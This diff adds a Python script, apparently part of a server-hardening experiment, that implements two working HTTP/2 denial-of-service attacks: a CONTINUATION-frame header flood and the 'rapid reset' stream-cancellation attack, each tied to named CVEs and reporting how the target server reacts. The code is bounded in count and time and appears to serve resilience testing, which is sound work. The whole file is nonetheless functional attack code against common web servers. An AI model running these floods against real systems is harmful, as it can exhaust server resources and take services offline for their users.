@@ -1,0 +1,117 @@
+#!/usr/bin/python3
+"""Hostile HTTP/2 clients for the transport experiment (python3-h2 and hyperframe, with a valid client certificate).
+
+  continuation HOST PORT DIR MB   one HEADERS frame without END_HEADERS, then CONTINUATION frames of 16 KiB,
+                                  up to MB mebibytes or 20 s (CVE-2024-30255 / -27316 class)
+  rapid-reset HOST PORT DIR N     N requests each reset at once (HEADERS + RST_STREAM), at most 20 s (CVE-2023-44487)
+Prints one line: what was sent and how the server reacted ("goaway" with its error code, "closed", or "nothing").
+DIR holds client.pem, client.key and ca.pem. Every loop is bounded in count and time.
+"""
+import socket
+import ssl
+import sys
+import time
+
+import h2.config
+import h2.connection
+import h2.events
+import hyperframe.frame
+
+
+def connect(host, port, certs):
+    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    ctx.check_hostname = False  # the peer proves a SPIFFE ID, not a host name
+    ctx.load_verify_locations(certs + "/ca.pem")
+    ctx.load_cert_chain(certs + "/client.pem", certs + "/client.key")
+    ctx.set_alpn_protocols(["h2"])
+    sock = ctx.wrap_socket(socket.create_connection((host, port), timeout=5))
+    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
+    conn.initiate_connection()
+    sock.sendall(conn.data_to_send())
+    return sock, conn
+
+
+def reaction(sock, conn):
+    """Reads what the server sent so far without waiting long: 'goaway CODE', 'closed' or None."""
+    sock.setblocking(False)
+    try:
+        while True:
+            data = sock.recv(65536)
+            if not data:
+                return "closed"
+            for event in conn.receive_data(data):
+                if isinstance(event, h2.events.ConnectionTerminated):
+                    return "goaway %s" % event.error_code
+    except (BlockingIOError, ssl.SSLWantReadError):
+        return None
+    except (ConnectionError, ssl.SSLError, OSError) as e:
+        return "closed (%s)" % type(e).__name__
+    except Exception as e:  # h2 refusing what the server sent counts as the server ending the connection
+        return "closed (%s)" % type(e).__name__
+    finally:
+        sock.setblocking(True)
+
+
+def continuation(host, port, certs, mebibytes):
+    sock, conn = connect(host, port, certs)
+    block = conn.encoder.encode([(":method", "GET"), (":scheme", "https"), (":path", "/"), (":authority", "backend")])
+    sock.sendall(hyperframe.frame.HeadersFrame(1, data=block).serialize())
+    # Each fragment is a valid literal header (never indexed), so a decoder has no reason to stop early.
+    name = b"x-flood"
+    value = b"a" * 16000
+    fragment = b"\x10" + bytes([len(name)]) + name + b"\x7f" + encode_int(len(value) - 127) + value
+    sent, start, outcome = 0, time.monotonic(), None
+    while sent < mebibytes << 20 and time.monotonic() - start < 20:
+        try:
+            sock.sendall(hyperframe.frame.ContinuationFrame(1, data=fragment).serialize())
+        except (ConnectionError, ssl.SSLError, OSError) as e:
+            outcome = "closed (%s)" % type(e).__name__
+            break
+        sent += len(fragment)
+        if sent % (1 << 20) < len(fragment):
+            outcome = reaction(sock, conn)
+            if outcome:
+                break
+    time.sleep(0.5)
+    outcome = outcome or reaction(sock, conn) or "nothing"
+    print("continuation: sent %.1f MiB in %.1f s; server: %s" % (sent / 1048576, time.monotonic() - start, outcome))
+
+
+def encode_int(n):
+    out = bytearray()
+    while n >= 128:
+        out.append((n & 0x7F) | 0x80)
+        n >>= 7
+    out.append(n)
+    return bytes(out)
+
+
+def rapid_reset(host, port, certs, count):
+    sock, conn = connect(host, port, certs)
+    headers = [(":method", "GET"), (":scheme", "https"), (":path", "/slow"), (":authority", "backend")]
+    sent, start, outcome = 0, time.monotonic(), None
+    while sent < count and time.monotonic() - start < 20:
+        try:
+            for _ in range(100):
+                stream = conn.get_next_available_stream_id()
+                conn.send_headers(stream, headers, end_stream=True)
+                conn.reset_stream(stream, error_code=8)
+                sent += 1
+            sock.sendall(conn.data_to_send())
+        except (ConnectionError, ssl.SSLError, OSError) as e:
+            outcome = "closed (%s)" % type(e).__name__
+            break
+        except Exception as e:  # h2 refuses to open streams on a connection the server ended
+            outcome = "ended (%s)" % type(e).__name__
+            break
+        outcome = reaction(sock, conn)
+        if outcome:
+            break
+    time.sleep(0.5)
+    outcome = outcome or reaction(sock, conn) or "nothing"
+    print("rapid-reset: sent %d HEADERS+RST_STREAM pairs in %.1f s; server: %s" % (sent, time.monotonic() - start, outcome))
+
+
+if __name__ == "__main__":
+    mode, host, port, certs, amount = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], int(sys.argv[5])
+    {"continuation": continuation, "rapid-reset": rapid_reset}[mode](host, port, certs, amount)
